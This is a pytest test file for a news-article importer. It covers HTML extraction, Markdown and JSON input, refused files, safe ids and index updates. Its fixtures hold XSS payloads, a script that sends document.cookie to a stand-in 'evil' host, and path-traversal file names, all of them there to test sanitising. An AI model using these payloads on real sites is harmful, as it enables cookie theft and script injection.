"""Importing articles (`index.importer`) with real trafilatura, the real loader and a real index.

Covers: each input type, a realistic HTML page (navigation, footer, copyright and script left
out), every refused input giving one line and changing nothing, safe ids, front matter that
round-trips, the index updated (and undone when it cannot be), and removing articles.
"""
from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest
from hypothesis import given, strategies as st

from index import load_index
from index.articles import parse_article
from index.importer import (MAX_IMPORT_FILES, MAX_INPUT_BYTES, Draft, article_file_text, article_id, base_name,
                            import_files, pasted_draft, remove_articles, safe_slug)
from index.update import update_lock

PAGE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8">
<title>Dam spillway rebuilt ahead of spring floods | River Gazette</title>
<meta property="og:title" content="Dam spillway rebuilt ahead of spring floods">
<meta property="og:site_name" content="River Gazette">
<meta name="author" content="Petra Novak">
<meta property="article:published_time" content="2022-02-14T08:30:00Z">
<link rel="canonical" href="https://river-gazette.example/news/dam-spillway">
<script>alert('head')</script><style>body { color: red }</style>
</head><body>
<header><nav><ul><li><a href="/">Home</a></li><li><a href="/news">News</a></li>
<li><a href="/sport">Sport</a></li><li><a href="/subscribe">Subscribe now</a></li></ul></nav></header>
<main><article>
<h1>Dam spillway rebuilt ahead of spring floods</h1>
<p class="byline">By Petra Novak</p>
<p>Engineers finished rebuilding the spillway of the Lindholm dam on Monday, three weeks before the spring
floods are expected.</p>
<p>The regional water authority said the work cost 9.5 million euros and took eleven months. Chief engineer
Oskar Vahl said the new spillway can carry twice as much water as the old one.</p>
<p>Residents downstream had asked for the repairs since a near overflow in 2019.
<script>document.body.setAttribute('data-pwned', '1')</script><img src=x onerror="alert(1)">
The authority will test the gates again in March, it said in a note headed &lt;script&gt;gates&lt;/script&gt;.</p>
</article></main>
<aside><h3>Most read</h3><ul><li><a href="/a">Cat rescued from tree</a></li>
<li><a href="/b">Local team wins cup</a></li></ul></aside>
<footer><p>Contact us | Privacy policy | Terms of use</p>
<p>© 2022 River Gazette Media Ltd. All rights reserved.</p></footer>
</body></html>
"""
MARKDOWN = """---
title: 'Glass museum: "record" summer'
source: Valley Times
published: 2023-09-01
---
The glass museum in Kosta counted 41,000 visitors over the summer, a record for the town.
"""
HEADED = "# Tram line opens\n\nThe new tram line to the harbour carried 9,000 riders on its first day.\n"
TEXT = "The ferry to Vaxholm now sails every hour between six in the morning and midnight.\n"


@pytest.fixture
def corpus(make_corpus) -> Path:
    return make_corpus({"seed.md": "---\ntitle: Seed\n---\nThe seed article is about orchards and apples.\n"})


def snapshot(*folders: Path) -> dict[str, bytes]:
    """Every file under the folders with its bytes (hidden files too), to compare before and after."""
    return {str(p): p.read_bytes() for folder in folders if folder.exists()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def only(report) -> object:
    [line] = report.lines
    return line


# --- each input type ----------------------------------------------------------------------------------------

def test_a_realistic_html_page_gives_its_article_text_and_metadata_without_navigation_or_footer(corpus):
    line = only(import_files([("dam.html", PAGE.encode())], corpus, update=False))

    assert line.ok, line
    article = parse_article((corpus / f"{line.doc_id}.md").read_bytes(), doc_id=line.doc_id)
    assert article.title == "Dam spillway rebuilt ahead of spring floods"
    assert (article.source, article.author, article.published) == ("River Gazette", "Petra Novak", "2022-02-14")
    assert article.url == "https://river-gazette.example/news/dam-spillway"
    assert "the work cost 9.5 million euros" in article.body
    assert "The authority will test the gates again in March" in article.body
    for left_out in ("Home", "Subscribe", "Most read", "Cat rescued", "Privacy policy", "©", "All rights reserved",
                     "alert(", "data-pwned", "color: red", "By Petra Novak"):
        assert left_out not in article.body, left_out
    assert "<script>gates</script>" in article.body  # text that only looks like markup stays, as text
    assert not article.body.startswith("Dam spillway")  # the heading is the title, not the first paragraph


def test_markdown_keeps_its_front_matter_and_a_heading_becomes_the_title(corpus):
    report = import_files([("glass.md", MARKDOWN.encode()), ("tram.md", HEADED.encode())], corpus, update=False)

    glass, tram = [parse_article((corpus / f"{line.doc_id}.md").read_bytes(), doc_id=line.doc_id)
                   for line in report.lines]
    assert (glass.title, glass.source, glass.published) == ('Glass museum: "record" summer', "Valley Times",
                                                            "2023-09-01")
    assert glass.body == "The glass museum in Kosta counted 41,000 visitors over the summer, a record for the town.\n"
    assert tram.title == "Tram line opens" and "9,000 riders" in tram.body
    assert [line.doc_id.rsplit("-", 1)[0] for line in report.lines] == ["glass-museum-record-summer",
                                                                        "tram-line-opens"]


def test_plain_text_without_a_title_is_named_after_its_file_and_gets_no_front_matter(corpus):
    line = only(import_files([("Vaxholm ferry.txt", TEXT.encode())], corpus, update=False))

    assert line.doc_id.startswith("vaxholm-ferry-")
    assert (corpus / f"{line.doc_id}.md").read_text(encoding="utf-8") == TEXT


def test_json_and_jsonl_give_one_article_per_object_with_every_field(corpus):
    record = {"title": "Storm closes bridge", "source": "Coastal Herald", "url": "https://example.org/storm",
              "published": "2022-01-30", "author": "Mara Lind", "body": "The storm closed the bridge for a day."}
    second = {"title": "Bridge reopens", "body": "The bridge reopened on Tuesday morning."}
    jsonl = "\n".join(json.dumps(r) for r in (record, second)).encode()
    report = import_files([("one.json", json.dumps(record).encode()), ("many.jsonl", jsonl),
                           ("list.json", json.dumps([{"title": "Third", "body": "A third article."}]).encode())],
                          corpus, update=False)

    assert [line.name for line in report.lines] == ["one.json", "many.jsonl #1", "many.jsonl #2", "list.json"]
    assert all(line.ok for line in report.lines) is False  # one.json and many.jsonl #1 are the same article
    assert "already in the corpus" in report.lines[1].problem
    article = parse_article((corpus / f"{report.lines[0].doc_id}.md").read_bytes(), doc_id="x")
    assert article.metadata() == {k: record.get(k) for k in article.metadata()}
    assert article.body == "The storm closed the bridge for a day.\n"


def test_pasted_text_is_an_article_with_the_fields_given(corpus):
    draft = pasted_draft("Night\nmarket  opens", "Forty stalls sell food.\r\nEvery Friday.", source="Evening Post",
                         published="2024-05-03")
    line = only(import_files([draft], corpus, update=False))

    article = parse_article((corpus / f"{line.doc_id}.md").read_bytes(), doc_id=line.doc_id)
    assert line.name == "pasted text"
    assert (article.title, article.source, article.published) == ("Night market opens", "Evening Post", "2024-05-03")
    assert article.body == "Forty stalls sell food.\nEvery Friday.\n"


# --- refused inputs: one line each, nothing changed ----------------------------------------------------------

def big_sparse_file(path: Path, size: int) -> Path:
    with path.open("wb") as handle:
        handle.truncate(size)
    return path


BAD_INPUTS = {
    "binary": (("photo.md", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" * 20), "looks like a binary file"),
    "no article text in the html": (("menu.html", b"<html><body><nav><a href='/'>Home</a> <a>News</a></nav>"
                                                  b"<footer>(c) 2022 Site</footer></body></html>"),
                                    "no article text found in this page"),
    "broken html": (("broken.html", b"<div><p <b>broken </i><<<html"), "no article text found in this page"),
    "empty": (("empty.txt", b""), "is empty"),
    "unknown suffix": (("article.pdf", b"%PDF-1.4 text"), "which is not imported"),
    "bad front matter": (("bad.md", b"---\ntitle: [unclosed\n---\nBody text.\n"), "front matter is not valid YAML"),
    "bad date": (("bad.json", b'{"title": "T", "body": "Some text.", "published": "last week"}'),
                 "published must be an ISO date"),
    "bad url": (("bad.json", b'{"title": "T", "body": "Some text.", "url": "javascript:alert(1)"}'),
                "url must start with http:// or https://"),
    "unknown json field": (("x.json", b'{"headline": "T", "body": "Some text."}'), "unknown field(s) ['headline']"),
    "not json": (("x.json", b'{"title": "T", '), "is not valid JSON"),
    "json without body": (("x.json", b'{"title": "T"}'), 'has no "body"'),
}


@pytest.mark.parametrize("name", list(BAD_INPUTS))
def test_a_bad_input_gets_one_line_saying_what_to_do_and_changes_nothing(corpus, tmp_path, build, name):
    index_dir = tmp_path / "index"
    build(corpus, index_dir)
    before = snapshot(corpus, index_dir)
    source, expected = BAD_INPUTS[name]

    report = import_files([source], corpus, index_dir=index_dir)

    line = only(report)
    assert not line.ok and expected in line.problem, line.problem
    assert "\n" not in str(line) and str(line).startswith(f"refused {source[0]}: ")
    assert report.summary is None and snapshot(corpus, index_dir) == before


def test_a_file_over_the_size_limit_is_refused_at_once_without_being_read(corpus, tmp_path):
    big = big_sparse_file(tmp_path / "huge.html", 20 * 1024 * 1024)
    before = snapshot(corpus)
    started = time.perf_counter()

    line = only(import_files([big], corpus, update=False))

    assert time.perf_counter() - started < 1.0
    assert "is too large: 20,971,520 bytes" in line.problem and f"{MAX_INPUT_BYTES:,}-byte limit" in line.problem
    assert snapshot(corpus) == before


def test_an_unreadable_path_or_folder_is_one_line(corpus, tmp_path):
    report = import_files([tmp_path / "missing.md", tmp_path], corpus, update=False)

    assert [line.ok for line in report.lines] == [False, False]
    assert all("is not a file" in line.problem for line in report.lines)


def test_more_files_than_the_limit_are_refused_together(corpus):
    report = import_files([(f"a{i}.txt", b"Some text.") for i in range(MAX_IMPORT_FILES + 1)], corpus, update=False)

    assert "more than 50 files at once" in only(report).problem
    assert [p.name for p in corpus.iterdir()] == ["seed.md"]


@pytest.mark.parametrize("name", ["../../escape.md", "/etc/cron.d/evil.md", "..\\..\\win.md", "sub/dir/x.md",
                                  ".hidden.md", "a\x00b.md", "....//..//x.md"])
def test_a_path_in_the_name_is_never_followed(corpus, tmp_path, name):
    line = only(import_files([(name, b"Text of an article about the harbour.")], corpus, update=False))

    assert line.ok, line
    assert "/" not in line.doc_id and not line.doc_id.startswith(".")
    assert sorted(p.name for p in corpus.iterdir()) == sorted(["seed.md", f"{line.doc_id}.md"])
    assert not (tmp_path / "escape.md").exists() and not (corpus.parent / "escape.md").exists()


def test_a_name_that_is_only_a_path_is_refused(corpus):
    line = only(import_files([("../", b"Text of an article.")], corpus, update=False))

    assert "has the suffix '(none)'" in line.problem and [p.name for p in corpus.iterdir()] == ["seed.md"]


def test_the_same_article_twice_is_refused_and_so_is_the_same_text_under_another_name(corpus, tmp_path, build):
    index_dir = tmp_path / "index"
    first = import_files([("glass.md", MARKDOWN.encode())], corpus, index_dir=index_dir, embedder=None, update=False)
    build(corpus, index_dir)
    before = snapshot(corpus, index_dir)

    again = only(import_files([("glass.md", MARKDOWN.encode())], corpus, index_dir=index_dir))
    renamed = only(import_files([("other.txt", MARKDOWN.split("---\n", 2)[2].encode())], corpus, index_dir=index_dir))

    assert f"already in the corpus as {first.lines[0].doc_id}" in again.problem
    assert f"same text as the article {first.lines[0].doc_id}" in renamed.problem
    assert snapshot(corpus, index_dir) == before


def test_a_hostile_page_keeps_only_its_text_and_its_markup_only_as_text(corpus):
    page = (b"<html><head><title>Market</title><script>fetch('//evil/'+document.cookie)</script></head><body>"
            b"<article><p>The night market opens every Friday at the old tram depot, organisers said on Monday, "
            b"and about forty stalls will sell street food.</p><p onclick=\"alert(1)\">Stall holders pay rent "
            b"<iframe src=\"javascript:alert(2)\"></iframe>monthly &lt;img src=x onerror=alert(3)&gt; to the city."
            b"</p></article></body></html>")
    line = only(import_files([("market.html", page)], corpus, update=False))

    body = parse_article((corpus / f"{line.doc_id}.md").read_bytes(), doc_id="x").body
    assert "forty stalls" in body and "document.cookie" not in body and "javascript:" not in body
    assert "onclick" not in body and "<iframe" not in body
    assert "<img src=x onerror=alert(3)>" in body  # written as text in the page, kept as text (shown escaped)


# --- ids and front matter -----------------------------------------------------------------------------------

@given(st.text(max_size=80), st.text(max_size=40), st.text(min_size=1, max_size=200))
def test_ids_are_safe_file_names_whatever_the_title_and_name(title, name, body):
    doc_id = article_id(Draft(body=body, title=title or None), name)

    slug, digest = doc_id.rsplit("-", 1)
    assert len(digest) == 10 and all(c in "0123456789abcdef" for c in digest)
    assert slug and all(c.isascii() and (c.isalnum() or c == "-") for c in slug) and slug == slug.lower()
    assert not slug.startswith("-") and len(doc_id) <= 71


def test_slugs_and_base_names_drop_every_path_part():
    assert safe_slug("../../etc/passwd") == "etc-passwd"
    assert base_name("../../etc/passwd.md") == "passwd.md"
    assert base_name("C:\\Users\\ana\\story.html") == "story.html"
    assert article_id(Draft(body="x"), "") == f"article-{article_id(Draft(body='x'), 'y').rsplit('-', 1)[1]}"


FIELD_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=60)


@given(title=FIELD_TEXT, source=FIELD_TEXT, author=FIELD_TEXT)
def test_front_matter_round_trips_quotes_colons_and_anything_else(title, source, author):
    draft = pasted_draft(title, "The body.", source=source, author=author)
    if draft.title is None:
        return
    article = parse_article(article_file_text(draft).encode("utf-8"), doc_id="x")

    assert (article.title, article.source, article.author) == (draft.title, draft.source, draft.author)
    assert article.body == "The body.\n"


def test_a_body_that_starts_like_front_matter_stays_the_body(corpus):
    body_json = json.dumps({"body": "---\nnot: front matter\n---\nbut the article itself."}).encode()
    line = only(import_files([("rules.json", body_json)], corpus, update=False))

    body = parse_article((corpus / f"{line.doc_id}.md").read_bytes(), doc_id="x").body
    assert body == "---\nnot: front matter\n---\nbut the article itself.\n"


def test_every_written_file_loads_with_the_corpus_loader(corpus):
    from index import load_corpus

    import_files([("dam.html", PAGE.encode()), ("glass.md", MARKDOWN.encode()), ("t.txt", TEXT.encode())], corpus,
                 update=False)
    loaded = load_corpus(corpus)

    assert loaded.problems == [] and len(loaded.articles) == 4
    assert not [p for p in corpus.iterdir() if p.name.startswith(".")]  # no temp file left behind


# --- the index ----------------------------------------------------------------------------------------------

@pytest.mark.slow
def test_imported_articles_are_indexed_and_removed_ones_drop_out(corpus, tmp_path, build, embedder):
    index_dir = tmp_path / "index"
    build(corpus, index_dir)

    report = import_files([("dam.html", PAGE.encode()), ("glass.md", MARKDOWN.encode())], corpus,
                          index_dir=index_dir, embedder=embedder)

    assert report.summary is not None and sorted(report.summary.added) == sorted(report.imported)
    index = load_index(index_dir)
    assert set(report.imported) < set(index.articles)
    dam = index.articles[report.imported[0]]
    assert dam.source == "River Gazette" and "9.5 million euros" in dam.body

    removed = remove_articles([report.imported[0], "nosuch", "../seed"], corpus, index_dir=index_dir, embedder=embedder)

    assert [line.ok for line in removed.lines] == [True, False, False]
    assert "no article file with this id" in removed.lines[1].problem
    assert "is not an article id" in removed.lines[2].problem
    assert removed.summary.deleted == [report.imported[0]]
    assert report.imported[0] not in load_index(index_dir).articles
    assert not (corpus / f"{report.imported[0]}.md").exists() and (corpus / "seed.md").exists()


@pytest.mark.slow
def test_when_the_index_cannot_be_updated_the_import_and_the_removal_are_undone(corpus, tmp_path, build):
    index_dir = tmp_path / "index"
    build(corpus, index_dir)
    before = snapshot(corpus, index_dir)

    with update_lock(index_dir):  # another update is running
        report = import_files([("glass.md", MARKDOWN.encode())], corpus, index_dir=index_dir)
        removal = remove_articles(["seed"], corpus, index_dir=index_dir)

    assert "another `python -m index` is updating" in report.index_error and report.imported == []
    assert "not imported" in only(report).problem
    assert "nothing was removed" in removal.index_error and removal.removed == []
    assert snapshot(corpus, index_dir) == before


def test_removal_never_touches_a_file_outside_the_corpus(corpus, tmp_path):
    outside = tmp_path / "outside.md"
    outside.write_text("Keep me.", encoding="utf-8")
    (corpus / "sub").mkdir()
    (corpus / "sub" / "up").symlink_to(tmp_path, target_is_directory=True)

    report = remove_articles(["../outside", str(outside.with_suffix("")), "sub/up/outside", "/etc/passwd"], corpus,
                             update=False)

    assert [line.ok for line in report.lines] == [False, False, False, False]
    assert outside.read_text(encoding="utf-8") == "Keep me." and os.path.exists("/etc/passwd")
